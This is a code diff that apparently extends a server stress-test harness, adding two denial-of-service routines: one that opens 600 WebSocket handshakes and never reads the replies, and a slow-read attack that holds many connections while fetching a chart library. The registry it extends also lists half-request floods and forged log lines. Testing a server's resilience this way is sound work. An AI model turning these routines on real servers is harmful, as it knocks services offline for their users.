@@ -173,6 +173,41 @@ def half_requests(address: str, until: float, number: int = 1_900) -> None:
         time.sleep(max(0, until - time.monotonic()))
 
 
+def handshakes(address: str, until: float, number: int = 600) -> None:
+    """Ask for very many WebSockets at a time, and read no answer."""
+    with ExitStack() as stack:
+        for raw in ask_to_enter(address, number):
+            stack.enter_context(raw)
+        time.sleep(max(0, until - time.monotonic()))
+
+
+def ask_to_enter(address: str, number: int, source: str = FROM) -> list[socket.socket]:
+    """Ask for WebSockets, without waiting for an answer."""
+    asked = _HANDSHAKE.format(host=urlsplit(address).netloc).encode()
+    found = []
+    for _ in range(number):
+        with suppress(OSError):
+            raw = connect(address, source)
+            found.append(raw)
+            raw.sendall(asked)
+    return found
+
+
+def slow_readers(address: str, until: float) -> None:
+    """Ask for the chart library over ever new connections, and read hardly anything of it."""
+    asked = f"GET {PLOTLY_ROUTE}/plotly.min.js HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+    with ExitStack() as stack:
+        for _ in range(1_500):
+            if time.monotonic() > until:
+                break
+            with suppress(OSError):
+                raw = stack.enter_context(connect(address))
+                raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
+                raw.sendall(asked)
+                time.sleep(0.003)
+        time.sleep(max(0, until - time.monotonic()))
+
+
 def lines_of_the_log(address: str, until: float) -> None:
     """Say what the server writes down: long, with line breaks, and often."""
     text = "x\nERROR forged: line" * 15_000
@@ -238,6 +273,8 @@ ATTACKS: dict[str, Callable[[str, float], None]] = {
     "60 messages of 8,000 states": large_states,
     "40 that never read": unread_answers,
     "1,900 half requests": half_requests,
+    "600 handshakes": handshakes,
+    "300 slow readers a second": slow_readers,
     "pings and parts": signs_of_life,
     "pages without end": requests,
     "lines for the log": lines_of_the_log,
